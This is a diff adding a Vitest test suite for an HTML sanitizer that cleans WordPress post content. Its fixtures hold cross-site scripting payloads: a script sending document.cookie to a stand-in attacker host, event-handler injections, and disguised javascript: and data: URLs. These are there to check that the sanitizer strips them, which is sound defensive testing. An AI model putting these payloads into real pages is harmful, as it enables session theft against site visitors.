@@ -1,0 +1,151 @@
+import { describe, it, expect } from 'vitest';
+import { sanitizeContent } from './sanitize';
+
+const HOME = 'http://wp.example.test';
+const clean = (html: string) => sanitizeContent(html, HOME);
+
+describe('sanitizeContent removes active content', () => {
+  it('removes <script> elements and their text', () => {
+    const html = clean(
+      '<p>Tide tables follow.</p><script>document.location="https://evil.example.net/?"+document.cookie</script>',
+    );
+    expect(html).toBe('<p>Tide tables follow.</p>');
+    expect(html).not.toContain('document.cookie');
+  });
+
+  it('removes on* event handlers', () => {
+    const html = clean(
+      '<p onclick="steal()">Click</p><img src="http://wp.example.test/wp-content/uploads/a.jpg" onerror="steal()" onload="steal()">',
+    );
+    expect(html).not.toMatch(/\bon[a-z]+=/i);
+    expect(html).not.toContain('steal');
+    expect(html).toContain('<p>Click</p>');
+    expect(html).toContain('src="http://wp.example.test/wp-content/uploads/a.jpg"');
+  });
+
+  it.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    ' javascript:alert(1)',
+    'java&#x09;script:alert(1)',
+    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  ])('removes the href %j but keeps the link text', (href) => {
+    const html = clean(`<a href="${href}">Read the logbook</a>`);
+    expect(html).toBe('<a>Read the logbook</a>');
+  });
+
+  it('removes data: image sources', () => {
+    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="x">')).not.toContain('data:');
+  });
+
+  it('never keeps the source of an iframe from a host that is not allowlisted', () => {
+    const html = clean('<iframe src="https://tracker.example.net/embed/1"></iframe><p>After</p>');
+    expect(html).not.toContain('tracker.example.net');
+    expect(html).toContain('<p>After</p>');
+  });
+
+  it('removes an iframe from a host that is not allowlisted entirely', () => {
+    expect(clean('<iframe src="https://tracker.example.net/embed/1"></iframe><p>After</p>')).toBe(
+      '<p>After</p>',
+    );
+  });
+
+  it('removes protocol-relative and relative iframes', () => {
+    expect(clean('<iframe src="//www.youtube.com/embed/abc"></iframe>')).not.toContain('src=');
+    expect(clean('<iframe src="/wp-admin/"></iframe>')).not.toContain('src=');
+  });
+});
+
+describe('sanitizeContent keeps safe content', () => {
+  it('keeps a YouTube iframe and sandboxes it', () => {
+    const html = clean(
+      '<figure class="wp-block-embed is-provider-youtube"><div class="wp-block-embed__wrapper"><iframe title="Gull Rock at night" width="500" height="281" src="https://www.youtube.com/embed/Xy12AbCdEfG?feature=oembed" allow="autoplay; encrypted-media" allowfullscreen></iframe></div></figure>',
+    );
+    expect(html).toContain('src="https://www.youtube.com/embed/Xy12AbCdEfG?feature=oembed"');
+    expect(html).toMatch(/<iframe[^>]* sandbox="[^"]*allow-scripts[^"]*"/);
+    expect(html).toContain('loading="lazy"');
+    expect(html).toContain('class="wp-block-embed is-provider-youtube"');
+  });
+
+  it('replaces an iframe’s own sandbox with the fixed one', () => {
+    const html = clean(
+      '<iframe src="https://player.vimeo.com/video/1" sandbox="allow-top-navigation"></iframe>',
+    );
+    expect(html).not.toContain('allow-top-navigation');
+    expect(html).toContain('sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"');
+  });
+
+  it('rewrites links into WordPress as frontend paths', () => {
+    expect(clean('<a href="http://wp.example.test/some-post/">Some post</a>')).toBe(
+      '<a href="/some-post/">Some post</a>',
+    );
+    expect(clean('<a href="http://wp.example.test/?p=412">Plain</a>')).toBe('<a href="/?p=412">Plain</a>');
+  });
+
+  it('rewrites links relative to a sub-folder install', () => {
+    expect(
+      sanitizeContent(
+        '<a href="http://wp.example.test/blog/salt-roads/">x</a>',
+        'http://wp.example.test/blog',
+      ),
+    ).toBe('<a href="/salt-roads/">x</a>');
+  });
+
+  it('leaves external, relative, mailto and anchor links alone', () => {
+    for (const link of [
+      '<a href="https://archive.example.org/gull-rock/">Archive</a>',
+      '<a href="https://wp.example.test/some-post/">Other scheme</a>',
+      '<a href="/already-relative/">Relative</a>',
+      '<a href="mailto:letters@lantern.example.test">Write</a>',
+      '<a href="#fn1">1</a>',
+    ]) {
+      expect(clean(link)).toBe(link);
+    }
+  });
+
+  it('keeps the fragment of a rewritten link', () => {
+    expect(clean('<a href="http://wp.example.test/some-post/#part-two">Part two</a>')).toBe(
+      '<a href="/some-post/#part-two">Part two</a>',
+    );
+  });
+
+  it('leaves links to uploaded files pointing at WordPress', () => {
+    const link =
+      '<a href="http://wp.example.test/wp-content/uploads/2024/03/gull-rock-logbook.pdf">Logbook (PDF)</a>';
+    expect(clean(link)).toBe(link);
+  });
+
+  it('adds rel="noopener noreferrer" to target=_blank links', () => {
+    expect(clean('<a href="https://archive.example.org/" target="_blank">Archive</a>')).toBe(
+      '<a href="https://archive.example.org/" target="_blank" rel="noopener noreferrer">Archive</a>',
+    );
+  });
+
+  it('makes images load lazily', () => {
+    const html = clean(
+      '<img src="http://wp.example.test/wp-content/uploads/2024/03/gull-rock-lamp-1024x576.jpg" alt="The lamp room" width="1024" height="576" loading="eager">',
+    );
+    expect(html).toContain('loading="lazy"');
+    expect(html).not.toContain('loading="eager"');
+    expect(html).toContain('alt="The lamp room"');
+    expect(html).toContain('width="1024"');
+  });
+
+  it('drops unsafe style declarations and keeps text-align', () => {
+    const html = clean('<p style="background:url(javascript:alert(1));text-align:center">Centred</p>');
+    expect(html).toBe('<p style="text-align:center">Centred</p>');
+    expect(
+      clean('<p style="text-align:center;background-image:url(https://evil.example.net/t.gif)">x</p>'),
+    ).toBe('<p style="text-align:center">x</p>');
+  });
+
+  it('drops a whole style that has nothing safe in it', () => {
+    expect(clean('<p style="position:fixed;top:0">x</p>')).toBe('<p>x</p>');
+  });
+
+  it('keeps block markup WordPress produces', () => {
+    const html =
+      '<figure class="wp-block-image"><figcaption class="wp-element-caption">A caption</figcaption></figure>';
+    expect(clean(html)).toBe(html);
+  });
+});
